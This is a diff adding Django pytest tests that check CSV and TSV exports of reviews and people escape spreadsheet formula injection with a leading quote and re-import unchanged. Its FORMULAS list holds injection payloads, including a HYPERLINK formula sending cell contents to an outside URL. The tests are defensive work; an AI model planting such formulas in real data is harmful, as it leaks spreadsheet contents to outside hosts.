@@ -22,6 +22,7 @@ import pytest
 from django.conf import settings
 from django.contrib.admin.models import LogEntry
 from django.core.files.uploadedfile import SimpleUploadedFile
+from django.core.management import call_command
 from django.db import connection
 from django.test import Client
 from django.test.utils import CaptureQueriesContext
@@ -707,3 +708,73 @@ def test_a_list_or_mapping_where_text_goes_is_a_refused_row_not_its_printout(
     assert response.status_code == 400
     assert "must be text, not" in response.content.decode()
     assert not Person.objects.exists()
+
+
+# --- Exports opened in a spreadsheet ------------------------------------------
+
+# Texts a spreadsheet would run as formulas (a tab or a line break before one
+# is dropped by some), as a visitor may write them in a review.
+FORMULAS = [
+    '=HYPERLINK("http://example.com/?"&A1,"Click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def cells(body: bytes, fmt: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(body.decode(), newline=""), delimiter="\t" if fmt == "tsv" else ","))
+
+
+def exported(client: Client, url: str, fmt: str) -> bytes:
+    return b"".join(export_post(client, url, fmt).streaming_content)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "tsv"])
+def test_a_review_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(
+    admin_client: Client, fmt: str
+) -> None:
+    for formula in FORMULAS:
+        FeedbackFactory(title=formula, name=formula, text=formula)
+    FeedbackFactory(title="Fine - really", name="Ada", text="A+ product = good")
+    header, *rows = cells(exported(admin_client, FEEDBACK_EXPORT, fmt), fmt)
+    reviews = sorted(
+        tuple(dict(zip(header, row, strict=True))[c] for c in ("title", "name", "text")) for row in rows
+    )
+    assert reviews == sorted(
+        [("Fine - really", "Ada", "A+ product = good"), *((f"'{formula}",) * 3 for formula in FORMULAS)]
+    )
+
+
+@pytest.mark.parametrize("fmt", ["csv", "tsv"])
+def test_people_exported_as_text_for_a_spreadsheet_are_imported_back_as_they_were(
+    importer: Client, fmt: str
+) -> None:
+    PersonFactory(name="-Ada", username="+ada", department="=Ops", role="@lead", email="ada@example.com")
+    PersonFactory(name="'Tis Grace", username="grace", department="'=Eng", role="Engineer")
+    stored = list(Person.objects.order_by("pk").values())
+    content = exported(importer, PERSON_EXPORT, fmt)
+    header, *rows = cells(content, fmt)
+    ada = dict(zip(header, next(row for row in rows if "'+ada" in row), strict=True))
+    assert (ada["name"], ada["department"], ada["role"]) == ("'-Ada", "'=Ops", "'@lead")
+    page = importer.get(PERSON_IMPORT)
+    upload = SimpleUploadedFile(f"people.{fmt}", content, content_type="text/plain")
+    preview_page = importer.post(
+        PERSON_IMPORT, {"format": choice(page.content.decode(), fmt), "import_file": upload}
+    )
+    assert "2 rows: 0 new, 0 to update, 2 unchanged." in preview_page.content.decode()
+    importer.post(PERSON_PROCESS_IMPORT, confirm_data(preview_page.content.decode()))
+    assert list(Person.objects.order_by("pk").values()) == stored
+
+
+def test_the_import_command_reads_a_people_export_made_for_a_spreadsheet_as_the_admin_does(
+    admin_client: Client, tmp_path: Path
+) -> None:
+    PersonFactory(name="-Ada", username="+ada", department="=Ops", role="@lead")
+    stored = list(Person.objects.values("name", "username", "department", "role"))
+    path = tmp_path / "people.csv"
+    path.write_bytes(exported(admin_client, PERSON_EXPORT, "csv"))
+    call_command("import_people", str(path), stdout=io.StringIO(), stderr=io.StringIO())
+    assert list(Person.objects.values("name", "username", "department", "role")) == stored
